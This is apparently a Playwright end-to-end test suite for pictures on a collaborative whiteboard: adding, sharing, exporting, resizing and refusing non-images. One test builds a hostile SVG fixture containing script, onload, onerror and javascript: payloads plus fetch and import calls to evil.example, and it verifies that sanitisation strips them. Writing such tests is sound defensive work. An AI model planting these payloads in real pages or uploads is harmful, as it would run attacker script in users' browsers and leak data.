import { readFile } from 'node:fs/promises'
import type { Locator } from '@playwright/test'
import { copyPicture, dropOn, pngFile, svgFile } from '../fixtures/picture-files.ts'
import type { Person } from '../fixtures/person.ts'
import { expect, test } from '../fixtures/story.ts'

const red = pngFile('red.png', [200, 30, 30])
const green = pngFile('green.png', [20, 140, 60])
const blue = pngFile('blue.png', [30, 60, 200], 900, 300)

const picturesOf = (someone: Person) => someone.page.getByTestId('picture').locator('img')

/** Whether every picture is there and has been decoded. */
async function areShown(pictures: Locator, count: number): Promise<void> {
  await expect(pictures).toHaveCount(count)
  await expect
    .poll(() =>
      pictures.evaluateAll((all) => all.every((one) => one instanceof HTMLImageElement && one.naturalWidth > 0)),
    )
    .toBe(true)
}

async function choose(someone: Person, files: Parameters<typeof dropOn>[1]): Promise<void> {
  const chooser = someone.page.waitForEvent('filechooser')
  await someone.page.getByRole('button', { name: 'Add a picture' }).first().click()
  await (await chooser).setFiles([...files])
}

async function describe(someone: Person, words: string): Promise<void> {
  await someone.inspector.panel.getByLabel('Description', { exact: true }).fill(words)
  await someone.isSaved()
}

async function exported({ page, plan }: Person, format: string): Promise<string> {
  await plan.panel.getByRole('button', { name: 'Export', exact: true }).click()
  const download = page.waitForEvent('download')
  await plan.exports.getByRole('button', { name: `Download: ${format}` }).click()
  const text = await readFile(await (await download).path(), 'utf8')
  await page.keyboard.press('Escape')
  return text
}

test('pasted, dropped and chosen by one, seen by a guest, described, exported and brought back', async ({
  api,
  person,
}) => {
  const board = await api.createBoard('Pictures')
  const ana = await person('Ana')
  const guest = await person('Gus')
  await ana.join(board)
  await guest.join(board, 'observe')

  await test.step('pasted on the wall, at the pointer', async () => {
    await copyPicture(ana.page, red)
    await ana.wall.surface.focus()
    await ana.page.keyboard.press('Control+v')
    await areShown(picturesOf(ana), 1)
    await expect(ana.message(/Picture added/)).toBeVisible()
    await describe(ana, 'Sales fell in March')
  })

  await test.step('dropped on the wall', async () => {
    await dropOn(ana.wall.surface, [green])
    await areShown(picturesOf(ana), 2)
    await ana.inspector.panel.getByRole('checkbox', { name: /Decoration/ }).check()
    await ana.isSaved()
  })

  await test.step('chosen, by keyboard', async () => {
    const button = ana.page.getByRole('button', { name: 'Add a picture' })
    await ana.arrowTo(button)
    const chooser = ana.page.waitForEvent('filechooser')
    await ana.page.keyboard.press('Enter')
    await (await chooser).setFiles([blue])
    await areShown(picturesOf(ana), 3)
    await describe(ana, 'The shop in Leeds')
  })

  await test.step('the guest sees them, with what was said of them', async () => {
    await guest.wall.seeEverything()
    await areShown(picturesOf(guest), 3)
    await expect(guest.page.getByAltText('Sales fell in March')).toBeVisible()
    await expect(guest.page.getByAltText('The shop in Leeds')).toBeVisible()
    await expect(guest.page.getByRole('button', { name: 'Add a picture' })).toHaveCount(0)
    await guest.showList()
    await guest.page.getByText('Pictures (3)').click()
    const list = guest.page.getByRole('button', { name: /^Picture: / })
    await expect(list).toHaveText(['Picture: Sales fell in March', 'Picture: decoration', 'Picture: The shop in Leeds'])
  })

  await test.step('after a reload they are there', async () => {
    await ana.page.reload()
    await ana.arrive()
    await ana.wall.seeEverything()
    await areShown(picturesOf(ana), 3)
  })

  let file = ''
  await test.step('files that leave the board contain them', async () => {
    await ana.plan.open()
    file = await exported(ana, 'Whole board, as JSON')
    const { pictures } = JSON.parse(file) as { pictures: Record<string, { mediaType: string; data: string }> }
    expect(Object.values(pictures).map(({ mediaType }) => mediaType)).toEqual(['image/png', 'image/png', 'image/png'])
    const report = await exported(ana, 'Report to print')
    expect(report.match(/<img alt="[^"]*" src="data:image\/(webp|png);base64,/g)).toHaveLength(2)
    expect(report).toContain('Sales fell in March')
  })

  await test.step('and a board made of the file shows them to its own people', async () => {
    const again = await api.importBoard(file)
    await guest.join(again)
    await guest.showWall()
    await guest.wall.seeEverything()
    await areShown(picturesOf(guest), 3)
    await expect(guest.page.getByAltText('The shop in Leeds')).toBeVisible()
  })
})

test('a picture is chosen, moved and resized in its proportion, and goes with undo', async ({ api, person, peer }) => {
  const board = await api.createBoard()
  const paul = await peer(board)
  const ana = await person('Ana')
  await ana.join(board)
  await dropOn(ana.wall.surface, [blue])
  await areShown(picturesOf(ana), 1)
  const place = () => paul.pictures()[0]?.geometry
  await expect.poll(place).toMatchObject({ w: 480, h: 160 })
  const before = place()
  const box = await picturesOf(ana).boundingBox()
  if (!box || !before) throw new Error('The picture lies nowhere.')
  await ana.page.mouse.move(box.x + box.width, box.y + box.height)
  await ana.page.mouse.down()
  await ana.page.mouse.move(box.x + box.width * 1.2, box.y + box.height * 1.5, { steps: 5 })
  await ana.page.mouse.up()
  await expect.poll(() => place()?.w).toBeGreaterThan(600)
  const after = place()
  expect(Math.abs((after?.w ?? 0) / (after?.h ?? 1) - 3)).toBeLessThan(0.02)
  expect([after?.x, after?.y]).toEqual([before.x, before.y])
  await ana.page.keyboard.press('Delete')
  await expect.poll(() => paul.pictures().length).toBe(0)
  await ana.undoButton.click()
  await areShown(picturesOf(ana), 1)
})

test('from far away pictures are painted, and each is the colour it has', async ({ api, person }) => {
  const board = await api.createBoard()
  const ana = await person('Ana')
  await ana.join(board)
  await dropOn(ana.wall.surface, [red])
  await areShown(picturesOf(ana), 1)
  const box = await picturesOf(ana).boundingBox()
  if (!box) throw new Error('The picture lies nowhere.')
  await ana.page.mouse.move(box.x + box.width / 2, box.y + box.height / 2)
  await ana.page.keyboard.down('Control')
  for (let turns = 0; turns < 12; turns++) await ana.page.mouse.wheel(0, 240)
  await ana.page.keyboard.up('Control')
  await expect(picturesOf(ana)).toHaveCount(0)
  const middle = () =>
    ana.page.evaluate(
      ([x, y]) => {
        const layer = document.querySelector<HTMLCanvasElement>('canvas.pw-far')
        const { left, top, width } = layer?.getBoundingClientRect() ?? { left: 0, top: 0, width: 1 }
        const ratio = (layer?.width ?? 1) / width
        const pixel = layer?.getContext('2d')?.getImageData(((x ?? 0) - left) * ratio, ((y ?? 0) - top) * ratio, 1, 1)
        return [...(pixel?.data ?? [])].slice(0, 3)
      },
      [box.x + box.width / 2, box.y + box.height / 2],
    )
  // Not to the last shade: small pictures are compressed.
  const isRed = async () => {
    const [r = 0, g = 255, b = 255] = await middle()
    return r > 170 && g < 60 && b < 60
  }
  await expect.poll(isRed).toBe(true)
})

test('a hostile SVG does nothing to anybody, and what is no picture is refused in words', async ({ api, person }) => {
  const board = await api.createBoard()
  const ana = await person('Ana')
  const guest = await person('Gus')
  const dialogs: string[] = []
  for (const { page } of [ana, guest]) {
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
  }
  await ana.join(board)
  await guest.join(board, 'observe')
  const hostile = svgFile(
    'plan.svg',
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200" onload="alert(1)">
      <script>alert(2); fetch('https://evil.example/')</script>
      <style>@import url(https://evil.example/x.css); rect { fill: #2a7 }</style>
      <image href="https://evil.example/pixel.png" width="9" height="9"/>
      <foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(3)"/></body></foreignObject>
      <a xlink:href="javascript:alert(4)"><rect width="300" height="200"/></a>
      <animate attributeName="href" values="javascript:alert(5)"/>
    </svg>`,
  )
  await dropOn(ana.wall.surface, [hostile])
  for (const someone of [ana, guest]) {
    await someone.wall.seeEverything()
    await areShown(picturesOf(someone), 1)
  }
  const source = await picturesOf(guest).evaluate(async (one) => {
    return one instanceof HTMLImageElement ? await (await fetch(one.src)).text() : ''
  })
  expect(source).not.toMatch(/script|onload|evil|javascript/)

  ana.tolerate(/422/)
  await choose(ana, [{ name: 'letter.png', mimeType: 'image/png', buffer: Buffer.from('%PDF-1.7 a letter') }])
  await expect(ana.message(/“letter.png” is not a picture that can be shown here/)).toBeVisible()
  await dropOn(ana.wall.surface, [{ name: 'letter.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF') }])
  await expect(ana.message(/Only pictures can be dropped on a board/)).toBeVisible()
  await expect(picturesOf(ana)).toHaveCount(1)
  expect(dialogs).toEqual([])
})

test('a copied picture is brought along to another board, and its people see it', async ({ api, person }) => {
  const [here, there] = [await api.createBoard('Here'), await api.createBoard('There')]
  const ana = await person('Ana')
  const guest = await person('Gus')
  await ana.join(here)
  await dropOn(ana.wall.surface, [green])
  await areShown(picturesOf(ana), 1)
  await describe(ana, 'Our shelf')
  await picturesOf(ana).click()
  await ana.page.keyboard.press('Control+c')
  await expect.poll(() => ana.copied()).toBe('Our shelf')
  await ana.join(there)
  await ana.wall.surface.focus()
  await ana.page.keyboard.press('Control+v')
  await areShown(picturesOf(ana), 1)
  await guest.join(there, 'observe')
  await guest.wall.seeEverything()
  await areShown(picturesOf(guest), 1)
  await expect(guest.page.getByAltText('Our shelf')).toBeVisible()
})

test('in private writing no picture is offered to participants', async ({ api, person, peer }) => {
  const board = await api.createBoard('Pre-mortem', 'T5')
  const fay = await person('Fay')
  await fay.join(board, 'facilitate')
  const ana = await person('Ana')
  await ana.join(board)
  await expect(ana.page.getByRole('button', { name: 'Add a picture' })).toBeVisible()
  const { seatToken } = await api.takeSeat(board, 'facilitate', 'Program')
  const answer = await fetch(`${fay.url}/api/boards/${board.boardId}/session/step`, {
    method: 'POST',
    headers: { authorization: `Bearer ${seatToken}`, 'content-type': 'application/json' },
    body: JSON.stringify({ do: 'start', stepId: '5.2' }),
  })
  expect(answer.ok).toBe(true)
  await expect(ana.page.getByRole('button', { name: 'Add a picture' })).toHaveCount(0)
  await dropOn(ana.page.locator('main'), [red])
  await expect(ana.message(/write in private/)).toBeVisible()
  const paul = await peer(board)
  expect(paul.pictures()).toEqual([])
})
